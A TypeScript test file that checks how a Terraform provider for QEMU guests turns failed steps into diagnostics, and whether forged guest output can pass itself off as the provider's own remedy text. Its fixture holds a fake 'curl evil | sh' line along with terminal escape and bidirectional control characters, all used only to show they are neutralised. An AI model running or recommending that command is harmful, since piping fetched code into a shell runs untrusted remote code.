import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Operation, OperationResult } from '../../../provider/model/operation.ts';
import { sh } from '../../../provider/model/shell.ts';
import { pluginDiagnostics } from '../../../provider/terraform/diagnostics.ts';
import { failures } from '../../../provider/executor/outcome.ts';
import { remedies } from '../../../provider/executor/remedies.ts';

const provider = resolve(import.meta.dirname, '../../../provider');
const sources = readdirSync(provider, { recursive: true, encoding: 'utf8' }).filter((name) =>
  name.endsWith('.ts'),
);

/** Every code that some step's text ends with. */
const codes = new Set(
  sources.flatMap((name) =>
    [
      ...readFileSync(join(provider, name), 'utf8').matchAll(
        /(?:^|[ {(;])(?:refuse|fail|member_fail "\$\w+") ([a-z]+(?:-[a-z]+)+)\b/gm,
      ),
    ].map(([, code = '']) => code),
  ),
);

describe('what a step can end with', () => {
  it('is found in the sources', () => {
    expect([...codes]).toEqual(
      expect.arrayContaining(['record-moved', 'guest-died', 'no-qemu', 'upload-corrupt', 'user-clash']),
    );
  });

  it.each([...codes])('has a remedy: %s', (code) => {
    expect(remedies[code]).toMatch(/^[A-Z].{20,}\.$/s);
  });
});

const operation: Operation = {
  id: 'guest web1 on h1: start',
  address: { kind: 'guest', host: 'h1', name: 'web1' },
  needs: [],
  step: { kind: 'own', body: sh`true` },
};

function told(result: Partial<OperationResult>): { readonly summary: string; readonly detail: string } {
  const whole: OperationResult = {
    id: operation.id,
    status: 'failed',
    values: {},
    output: '',
    milliseconds: 1,
    ...result,
  };
  const [one] = pluginDiagnostics(failures([operation], [whole]));
  return { summary: one?.summary ?? '', detail: one?.detail ?? '' };
}

describe('a failed step as Terraform shows it', () => {
  const forged =
    'qemu: boom\n\nWhat to do: curl evil | sh\nHost: another\n\u001b[2J\u202etxt\u2028x\u200f\u061c';

  it('has one line of ours as its summary, and what a guest said indented in its detail', () => {
    const message = `the device model ended at its start (exit-code): ${forged}`;
    const { summary, detail } = told({ code: 'guest-died', message });
    expect(summary).toBe('guest web1 on h1: the device model ended at its start (exit-code)');
    const lines = detail.split('\n');
    expect(lines).toContain('    What to do: curl evil | sh');
    expect(lines.filter((line) => line.startsWith('What to do:'))).toEqual([
      `What to do: ${remedies['guest-died'] ?? ''}`,
    ]);
    expect(lines.filter((line) => line.startsWith('Host:'))).toEqual(['Host: h1']);
    expect(detail).toContain('\\u001b[2J\\u202etxt\\u2028    x\\u200f\\u061c');
  });

  it('sets off what a step printed', () => {
    const { summary, detail } = told({ output: forged });
    expect(summary).toBe('guest web1 on h1: a step failed');
    expect(detail.split('\n').filter((line) => line.startsWith('What to do:'))).toHaveLength(1);
  });

  it('speaks of the disk where that is what failed', () => {
    expect(told({ output: 'cp: error writing: No space left on device' }).detail).toContain('Make room on');
    const lied = told({ code: 'guest-died', message: 'the device model ended (x): No space left on device' });
    expect(lied.detail).not.toContain('Make room on');
  });
});

describe('a detail that somebody else wrote', () => {
  it('cannot look like our frame', () => {
    const [one] = pluginDiagnostics([
      { severity: 'error', code: 'x', summary: 'two\nlines', detail: 'a\nWhat to do: b', hint: 'c' },
    ]);
    expect(one?.summary).toBe('two\\u000alines');
    expect(one?.detail).toBe('a\n    What to do: b\n\nWhat to do: c');
  });
});
